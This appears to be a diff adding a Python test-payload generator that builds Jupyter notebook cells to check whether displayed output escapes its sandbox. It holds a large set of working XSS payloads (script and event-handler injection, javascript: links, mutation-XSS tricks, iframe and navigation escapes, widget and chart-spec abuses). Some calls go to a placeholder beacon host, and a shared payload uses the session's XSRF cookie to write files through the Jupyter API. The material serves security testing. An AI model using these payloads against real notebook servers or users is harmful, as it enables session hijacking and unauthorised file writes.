@@ -1,0 +1,394 @@
+"""Cells that try to get out of their output: into the page, to the Jupyter server, to a network.
+
+In: the address of a listening beacon. Out: Python cells. In what they display, `HIT` is JavaScript
+that reports from wherever it runs: to the page (`__pwned`), to the Jupyter API (a file), to the
+beacon. `BEACON` is an address that nothing may ask for.
+"""
+
+from __future__ import annotations
+
+import json
+from dataclasses import dataclass
+
+# Single quotes only: it stands in attributes too.
+_HIT = (
+    "(()=>{const i='NAME';"
+    "try{top.__pwned.push(i)}catch(e){}try{window.__pwned.push(i)}catch(e){}"
+    "try{top.document.title='pwned'}catch(e){}"
+    "try{fetch('BEACON/fetch')}catch(e){}try{new Image().src='BEACON/img'}catch(e){}"
+    "try{const c=document.cookie.split('_xsrf=')[1]||'';fetch('/api/contents/pwned-NAME.txt',"
+    "{method:'PUT',headers:{'X-XSRFToken':c.split(';')[0]},"
+    "body:JSON.stringify({type:'file',format:'text',content:'x'})})}catch(e){}})()"
+)
+# A command of JupyterLab that leaves something to see: a file in the server's root.
+_COMMAND = "docmanager:new-untitled"
+_COMMAND_ARGS = '{"path":"","type":"file","ext":".pwned"}'
+
+_HTML = {
+    "script": "<script>HIT</script>",
+    "script with an address": "<script src='BEACON/script.js'></script>",
+    "script as a module": "<script type='module'>HIT</script>",
+    "script in capitals": "<ScRiPt>HIT</sCrIpT>",
+    "script split by another": "<scr<script>ipt>HIT</scr</script>ipt>",
+    "script in svg": "<svg><script>HIT</script></svg>",
+    "script in a table": "<table><script>HIT</script><tr><td>x</td></tr></table>",
+    "script after an open comment": "<!-- --!><script>HIT</script> -->",
+    "script in pandas' place": "<div><style scoped>.dataframe{}</style><script>HIT</script></div>",
+    "onerror": '<img src=x onerror="HIT">',
+    "onerror with a slash": '<img/src="x"/onerror="HIT">',
+    "onload of svg": '<svg onload="HIT"></svg>',
+    "onload of body": '<body onload="HIT">x</body>',
+    "ontoggle": '<details open ontoggle="HIT"><summary>x</summary>y</details>',
+    "onfocus": '<input autofocus onfocus="HIT">',
+    "onanimationstart": "<style>@keyframes k{from{color:red}}</style>"
+    '<b style="animation:k 1s" onanimationstart="HIT">x</b>',
+    "onerror of video": '<video><source onerror="HIT" src="x"></video>',
+    "onclick": '<b class="click" onclick="HIT">click</b>',
+    "onbegin": '<svg><animate attributeName=x dur=1s onbegin="HIT"></svg>',
+    "javascript link": '<a href="javascript:HIT">click</a>',
+    "javascript link with a tab": '<a href="java&Tab;script:HIT">click</a>',
+    "javascript link with a control": '<a href="&#1;javascript:HIT">click</a>',
+    "javascript link in capitals": '<a href=" JaVaScRiPt:HIT">click</a>',
+    "javascript link in svg": '<svg><a xlink:href="javascript:HIT"><text y="20">c</text></a></svg>',
+    "javascript link in math": '<math><mtext><a href="javascript:HIT">c</a></mtext></math>',
+    "javascript link in math itself": '<math href="javascript:HIT">click</math>',
+    "javascript link to the top": '<a target="_top" href="javascript:HIT">click</a>',
+    "data link": '<a href="data:text/html,<script>HIT</script>" target="_blank">click</a>',
+    "form with a javascript action": '<form action="javascript:HIT"><button>go</button></form>',
+    "form to the beacon": '<form action="BEACON/form"><input name=a value=b><button>go</button></form>',
+    "form that sends itself": '<form id=f action="BEACON/auto" method=post></form>'
+    "<script>document.getElementById('f').submit()</script>",
+    "formaction": '<form><button formaction="javascript:HIT">go</button></form>',
+    "iframe srcdoc": '<iframe srcdoc="<script>HIT</script>"></iframe>',
+    "iframe javascript": '<iframe src="javascript:HIT"></iframe>',
+    "iframe data": '<iframe src="data:text/html,<script>HIT</script>"></iframe>',
+    "iframe of the beacon": '<iframe src="BEACON/frame"></iframe>',
+    "iframe of the Jupyter API": '<iframe src="/api/contents?pwned=1"></iframe>',
+    "iframe with its own sandbox": '<iframe sandbox="allow-scripts allow-same-origin" '
+    'srcdoc="<script>HIT</script>"></iframe>',
+    "object data": '<object data="data:text/html,<script>HIT</script>"></object>',
+    "object of the beacon": '<object data="BEACON/object"></object>',
+    "embed": '<embed src="BEACON/embed">',
+    "embed javascript": '<embed src="javascript:HIT">',
+    "base": '<base href="BEACON/"><img src="relative.png">',
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=BEACON/refresh">',
+    "meta refresh to javascript": '<meta http-equiv="refresh" content="0;url=javascript:HIT">',
+    "meta that lifts the policy": "<meta http-equiv='Content-Security-Policy' "
+    "content=\"default-src *\"><img src='BEACON/meta.png'>",
+    "link stylesheet": '<link rel="stylesheet" href="BEACON/style.css">',
+    "link preload": '<link rel="preload" as="image" href="BEACON/preload.png">',
+    "link prefetch": '<link rel="prefetch" href="BEACON/prefetch">',
+    "image of the beacon": '<img src="BEACON/img.png">',
+    "image without a scheme": '<img src="PROTOCOL/img.png">',
+    "image srcset": '<img srcset="BEACON/srcset.png 1x">',
+    "image of the Jupyter API": '<img src="/api/contents?pwned=1">',
+    "image that logs out": '<img src="/logout?pwned=1">',
+    "background of a table": '<table background="BEACON/table.png"><tr><td>x</td></tr></table>',
+    "video poster": '<video poster="BEACON/poster.png" src="BEACON/video.mp4"></video>',
+    "ping": '<a href="#" ping="BEACON/ping">click</a>',
+    "css of the page": "<style>body{--pwned:1}.jp-Notebook{outline:9px solid red}</style>",
+    "css import": "<style>@import url(BEACON/import.css);</style>",
+    "css font": "<style>@font-face{font-family:p;src:url(BEACON/font)}b{font-family:p}</style><b>x</b>",
+    "css in a style attribute": '<b style="background:url(BEACON/style.png)">x</b>',
+    "css in pandas' block": "<style scoped>.dataframe th{color:red}body{--pwned:1}</style>"
+    "<table class='dataframe'><tr><th>x</th></tr></table>",
+    "css beside a styled table": '<style type="text/css">#T_a ~ *{--pwned:1}'
+    "#T_a{background:url(BEACON/styler.png)}</style><table id='T_a'></table>",
+    "css that ends its element": "<style scoped>.dataframe{}</style></style><script>HIT</script>",
+    "overlay": '<div id="pwned-overlay" style="position:fixed;inset:0;z-index:99999">x</div>',
+    "overlay by the page's classes": '<div id="pwned-overlay" class="jp-Dialog">sign in</div>',
+    "overlay by a negative margin": '<div id="pwned-overlay" style="margin-top:-500px">x</div>',
+    "command linker": f"<button data-commandlinker-command='{_COMMAND}' "
+    f"data-commandlinker-args='{_COMMAND_ARGS}'>click</button>",
+    "command linker on a plain element": f"<b data-commandlinker-command='{_COMMAND}' "
+    f"data-commandlinker-args='{_COMMAND_ARGS}'>click</b>",
+    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=HIT>">',
+    "mutation by mathml": "<math><mtext><table><mglyph><style><!--</style>"
+    '<img title="--&gt;&lt;img src=1 onerror=HIT&gt;">',
+    "mutation by svg style": '<svg></p><style><a id="</style><img src=1 onerror=HIT>">',
+    "mutation by template": "<template><script>HIT</script></template>"
+    "<script>document.body.append(document.querySelector('template').content)</script>",
+    "mutation by textarea": '<textarea><img title="</textarea><img src=x onerror=HIT>"></textarea>',
+    "mutation by xmp": '<xmp><p title="</xmp><img src=x onerror=HIT>"></xmp>',
+    "mutation by form and math": "<form><math><mtext></form><form><mglyph><style></math>"
+    "<img src onerror=HIT>",
+    "mutation by a null": "<im\\0g src=x onerror=HIT><img src=x onerror\\0=HIT>",
+    "breaking out of srcdoc": '"></iframe><img src=x onerror="HIT"><iframe srcdoc="<script>1</script>',
+    "breaking out by entities": "&quot;&gt;&lt;/iframe&gt;&lt;img src=x onerror=HIT&gt;<script></script>",
+    "breaking out by doubled entities": "&amp;quot;&amp;gt;&amp;lt;img src=x onerror=HIT&amp;gt;"
+    "<script>1</script>",
+    "breaking out of the fallback": "<script>1</script></iframe><img src=x onerror='HIT'>",
+    "our own frame, but open": '<div style="resize:vertical"><iframe title="Output of the sandbox, '
+    'contained" sandbox="allow-scripts allow-same-origin" srcdoc="<script>HIT</script>"></iframe></div>',
+    "parent document": "<script>parent.document.title='pwned';parent.__pwned.push('NAME')</script>",
+    "top document": "<script>top.document.body.innerHTML='pwned'</script>",
+    "frame element": "<script>frameElement.removeAttribute('sandbox');HIT</script>",
+    "top navigation": "<script>top.location='BEACON/top'</script>",
+    "parent navigation": "<script>parent.location='BEACON/parent'</script>",
+    "own navigation": "<script>location='BEACON/own'</script>",
+    "own navigation to javascript": "<script>location='javascript:'+encodeURI(`HIT`)</script>",
+    "own navigation by a link": "<a id=l href='BEACON/link'>x</a><script>l.click()</script>",
+    "navigation of a new frame": "<iframe name=n></iframe><script>window.open('BEACON/named','n')</script>",
+    "history": "<script>history.go(-1);history.back()</script>",
+    "popup": "<script>const w=window.open('BEACON/popup');w&&w.opener.__pwned.push('NAME')</script>",
+    "popup of the page": "<script>const w=window.open('/lab');try{w.opener.top.__pwned.push('NAME')}"
+    "catch(e){}</script>",
+    "link to a new window": "<a target=_blank href='BEACON/blank'>x</a>"
+    "<script>document.querySelector('a').click()</script>",
+    "service worker": "<script>navigator.serviceWorker.register('BEACON/sw.js')</script>",
+    "worker": "<script>new Worker('BEACON/worker.js')</script>",
+    "worker of a blob": "<script>new Worker(URL.createObjectURL(new Blob(["
+    "\"fetch('BEACON/blobworker');importScripts('BEACON/imported.js')\"])))</script>",
+    "import": "<script>import('BEACON/module.js')</script>",
+    "beacon": "<script>navigator.sendBeacon('BEACON/send','x')</script>",
+    "websocket": "<script>new WebSocket('BEACON/ws'.replace('http','ws'))</script>",
+    "event source": "<script>new EventSource('BEACON/events')</script>",
+    "XMLHttpRequest": "<script>x=new XMLHttpRequest;x.open('GET','BEACON/xhr');x.send()</script>",
+    "Jupyter API with credentials": "<script>fetch('/api/contents/pwned-NAME.txt',{method:'PUT',"
+    "credentials:'include',body:'{}'});fetch('/api/kernels?pwned=1',{credentials:'include',"
+    "mode:'no-cors'})</script>",
+    "post to the parent": "<script>parent.postMessage('pwned','*')</script>",
+    "storage": "<script>localStorage.pwned=1;document.cookie='pwned=1';top.__pwned.push('s')</script>",
+    "modal": "<script>alert('pwned');confirm('pwned');prompt('pwned')</script>",
+    "download": "<a download=pwned href='data:text/plain,x'>x</a>"
+    "<script>document.querySelector('a').click()</script>",
+    "frame of the page": "<script>const f=document.createElement('iframe');f.src=location.ancestorOrigins"
+    "?.[0]+'/lab';document.body.append(f);f.onload=()=>{try{f.contentWindow.eval('1');"
+    "top.__pwned.push('NAME')}catch(e){}}</script>",
+    "name of the window": "<script>window.name='pwned';top.name='pwned'</script>",
+    "speculation": '<script type="speculationrules">{"prefetch":[{"source":"list",'
+    '"urls":["BEACON/speculated"]}],"prerender":[{"source":"list","urls":["BEACON/prerendered"]}]}'
+    "</script>",
+}
+
+_MARKDOWN = {
+    "markdown with a script": "# x\n\n<script>HIT</script>",
+    "markdown with a handler": "text <img src=x onerror=HIT>",
+    "markdown link": "[click](javascript:HIT)",
+    "markdown link by reference": "[click][x]\n\n[x]: javascript:HIT",
+    "markdown link with entities": "[click](&#106;avascript:HIT)",
+    "markdown autolink": "<javascript:HIT>",
+    "markdown image": "![x](BEACON/markdown.png)",
+    "markdown image by reference": "![x][y]\n\n[y]: BEACON/reference.png",
+    "markdown in html in markdown": "<div>\n\n**x** <b onclick=HIT class=click>c</b>\n\n</div>",
+    "markdown code that ends": "```html\n</code></pre><img src=x onerror=HIT>\n```\n<svg onload=HIT>",
+    "markdown with a drawing": "```mermaid\nflowchart TD\nA@{ img: 'BEACON/mermaid.png', label: 'x' }\n```",
+    "markdown with a linked drawing": '```mermaid\nflowchart TD\nA-->B\nclick A href "javascript:HIT"\n```',
+    "markdown with a formula that links": "$\\\\href{javascript:HIT}{click}$",
+    "markdown command linker": f"<a data-commandlinker-command='{_COMMAND}' "
+    f"data-commandlinker-args='{_COMMAND_ARGS}'>click</a>",
+}
+
+_BUNDLES: dict[str, tuple[dict[str, object], dict[str, object]]] = {
+    "application/javascript": ({"application/javascript": "HIT"}, {}),
+    "text/javascript": ({"text/javascript": "HIT", "text/plain": "x"}, {}),
+    "javascript beside html": (
+        {"application/javascript": "HIT", "text/html": "<b>x</b>", "text/plain": "x"},
+        {},
+    ),
+    "isolated": ({"text/html": "<script>HIT</script>"}, {"isolated": True}),
+    "isolated for its type": (
+        {"text/html": "<b>b</b><script>HIT</script>"},
+        {"text/html": {"isolated": True}},
+    ),
+    "html under another name": (
+        {"text/html; charset=utf-8": "<script>HIT</script>", "TEXT/HTML": "<script>HIT</script>"},
+        {},
+    ),
+    "html as lines": ({"text/html": ["<scr", "ipt>HIT</script>"]}, {}),
+    "svg with a script": (
+        {
+            "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"HIT\">"
+            "<script>HIT</script><image href='BEACON/svg.png' width='9' height='9'/></svg>"
+        },
+        {},
+    ),
+    "svg with a document": (
+        {
+            "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe "
+            "xmlns='http://www.w3.org/1999/xhtml' src='javascript:HIT'/></foreignObject></svg>"
+        },
+        {},
+    ),
+    "png that is none": ({"image/png": 'x" onerror="HIT', "text/plain": "x"}, {}),
+    "latex": ({"text/latex": "$\\href{javascript:HIT}{click}$"}, {}),
+    "latex with classes": (
+        {
+            "text/latex": "$\\class{jp-Dialog}{x}\\cssId{pwned-overlay}{y}\\style{position:fixed}{z}$"
+        },
+        {},
+    ),
+    "json": ({"application/json": {"__proto__": {"pwned": 1}, "x": "<script>HIT</script>"}}, {}),
+    "vega-lite that loads": (
+        {
+            "application/vnd.vegalite.v5+json": {
+                "data": {"url": "BEACON/vega.json"},
+                "mark": "bar",
+                "encoding": {"x": {"field": "a", "type": "quantitative"}},
+            }
+        },
+        {},
+    ),
+    "vega-lite with pictures": (
+        {
+            "application/vnd.vegalite.v5+json": {
+                "data": {"values": [{"u": "BEACON/vegaimage.png"}]},
+                "mark": {"type": "image", "width": 9, "height": 9},
+                "encoding": {"url": {"field": "u", "type": "nominal"}},
+            }
+        },
+        {},
+    ),
+    "vega options": (
+        {
+            "application/vnd.vegalite.v5+json": {
+                "data": {"values": [{"a": 1}]},
+                "mark": "bar",
+                "encoding": {"x": {"field": "a", "type": "quantitative"}},
+                "usermeta": {"embedOptions": {"config": "BEACON/usermeta.json"}},
+            }
+        },
+        {
+            "application/vnd.vegalite.v5+json": {
+                "embed_options": {"patch": "BEACON/patch.json", "config": "BEACON/config.json"}
+            }
+        },
+    ),
+    "vega whose source is looked at": (
+        {
+            "application/vnd.vegalite.v5+json": {
+                "description": "</code></pre><script>opener.__pwned.push('NAME')</script>",
+                "data": {"values": [{"a": 1}]},
+                "mark": "bar",
+                "encoding": {"x": {"field": "a", "type": "quantitative"}},
+            }
+        },
+        {},
+    ),
+    "vega of the Jupyter API": (
+        {
+            "application/vnd.vega.v5+json": {
+                "data": [{"name": "d", "url": "/api/contents?pwned=1"}],
+                "marks": [
+                    {"type": "image", "encode": {"enter": {"url": {"value": "BEACON/v.png"}}}}
+                ],
+            }
+        },
+        {},
+    ),
+    "plotly with a picture": (
+        {
+            "application/vnd.plotly.v1+json": {
+                "data": [{"y": [1, 2]}],
+                "layout": {
+                    "images": [
+                        {"source": "BEACON/plotly.png", "sizex": 1, "sizey": 1, "x": 0, "y": 1}
+                    ],
+                    "title": {"text": "<a href='javascript:HIT'>click</a>"},
+                },
+            }
+        },
+        {},
+    ),
+    "plotly map": (
+        {
+            "application/vnd.plotly.v1+json": {
+                "data": [{"type": "scattermap", "lat": [1], "lon": [1]}],
+                "layout": {"map": {"style": "BEACON/style.json"}},
+            }
+        },
+        {},
+    ),
+    "bokeh's loader": ({"application/vnd.bokehjs_load.v0+json": "HIT", "text/plain": "x"}, {}),
+    "widget state": ({"application/vnd.jupyter.widget-state+json": {"state": {}}}, {}),
+    "pdf": ({"application/pdf": "JVBERi0xLjQK", "text/plain": "x"}, {}),
+    "standard output as a type": (
+        {"application/vnd.jupyter.stdout": "<script>HIT</script>", "text/plain": "x"},
+        {},
+    ),
+}
+
+_CODE = {
+    "update of a display": "h = display('x', display_id=True)\nh.update(HTML({script}))",
+    "update of the type": "h = display(HTML('<b>x</b>'), display_id=True)\n"
+    "h.update({{'application/javascript': {hit}}}, raw=True)",
+    "clear and display": "from IPython.display import clear_output\nclear_output(wait=True)\n"
+    "display(HTML({script}))",
+    "result": "HTML({handler})",
+    "result as javascript": "Javascript({hit})",
+    "styled repr": "type('R', (), {{'_repr_html_': lambda s: {script}, "
+    "'_repr_javascript_': lambda s: {hit}}})()",
+    "IFrame": "IFrame('BEACON/iframe', 100, 50)",
+    "Image by address": "Image(url='BEACON/image.png')",
+    "Video by address": "Video('BEACON/video.mp4')",
+    "print": "print({script}); print('\\x1b]8;;javascript:1\\x07x\\x1b]8;;\\x07')",
+    "error": "raise type({script}, (Exception,), {{}})({script})",
+    "pager": "get_ipython().payload_manager.write_payload(dict(source='page', start=0, "
+    "data={{'text/html': {script}, 'text/plain': 'x'}}))",
+    "HTML widget": "import ipywidgets as w\nw.HTML({handler})",
+    "HTML widget, later": "x = w.HTML('x')\ndisplay(x)\nx.value = {handler}",
+    "HTMLMath widget": "w.HTMLMath({handler})",
+    "widget with the view of HTML": "x = w.Text({handler})\nx._view_name = 'HTMLView'\ndisplay(x)\n"
+    "x.send_state()",
+    "widget description": "w.Text(description={handler}, description_allow_html=True)",
+    "widget command linker": "w.HTML(\"<b data-commandlinker-command='"
+    + _COMMAND
+    + "' data-commandlinker-args='"
+    + _COMMAND_ARGS.replace('"', '\\"').replace("{", "{{").replace("}", "}}")
+    + "'>click</b>\")",
+    "linked widgets": "a, b = w.Text('x'), w.HTML('y')\nl = w.jsdlink((a, 'value'), (b, 'value'))\n"
+    "display(w.VBox([a, b]))\na.value = {handler}",
+    "Output widget": "o = w.Output()\ndisplay(o)\no.outputs = ({{'output_type': 'display_data', "
+    "'data': {{'text/html': {script}, 'application/javascript': {hit}}}, 'metadata': {{}}}},)",
+    "Output widget that captures": "o2 = w.Output()\ndisplay(o2)\nwith o2:\n    display(HTML({script}))",
+    "Image widget by address": "w.Image(value=b'BEACON/widget.png', format='url')",
+    "style of a widget": "w.HTML('x', style={{'background': 'url(BEACON/widgetstyle.png)'}})",
+    "classes of a widget": "x = w.HTML('<b id=pwned-overlay>x</b>')\nx.add_class('jp-Dialog')\nx",
+    "another package's widget": "import traitlets as t\nclass Evil(w.DOMWidget):\n"
+    "    _view_name = t.Unicode('V').tag(sync=True)\n"
+    "    _view_module = t.Unicode('BEACON/evil').tag(sync=True)\n"
+    "    _view_module_version = t.Unicode('1').tag(sync=True)\nEvil()",
+    "a comm of its own": "from comm import create_comm\ncreate_comm(target_name='jupyterlab', data={{}})",
+}
+
+
+@dataclass(frozen=True)
+class Payload:
+    """A cell and what its HIT is called."""
+
+    name: str
+    code: str
+
+
+def escape_payloads(beacon: str) -> list[Payload]:
+    """All payloads; their beacons lead to that address."""
+    cells = [(name, f"display(HTML({html!r}))") for name, html in _HTML.items()]
+    cells += [(name, f"display(Markdown({text!r}))") for name, text in _MARKDOWN.items()]
+    cells += [
+        (name, f"display({data!r}, raw=True, metadata={metadata!r})")
+        for name, (data, metadata) in _BUNDLES.items()
+    ]
+    literals = {
+        "script": json.dumps("<script>HIT</script>"),
+        "handler": json.dumps('<img src=x onerror="HIT">'),
+        "hit": json.dumps("HIT"),
+    }
+    cells += [(name, code.format(**literals)) for name, code in _CODE.items()]
+    payloads = []
+    for number, (name, code) in enumerate(cells):
+        named = code.replace("HIT", _in_literal(_HIT)).replace("NAME", f"p{number}")
+        named = named.replace("BEACON", f"{beacon}/p{number}")
+        named = named.replace("PROTOCOL", f"{beacon.partition(':')[2]}/p{number}")
+        payloads.append(Payload(name, named))
+    return payloads
+
+
+def _in_literal(script: str) -> str:
+    """The script as it stands in a Python literal of either quotes."""
+    return script.replace("'", "\\x27")
+
+
+SETUP = (
+    "from IPython.display import HTML, IFrame, Image, Javascript, Markdown, Video, display\n"
+    "import ipywidgets as w"
+)
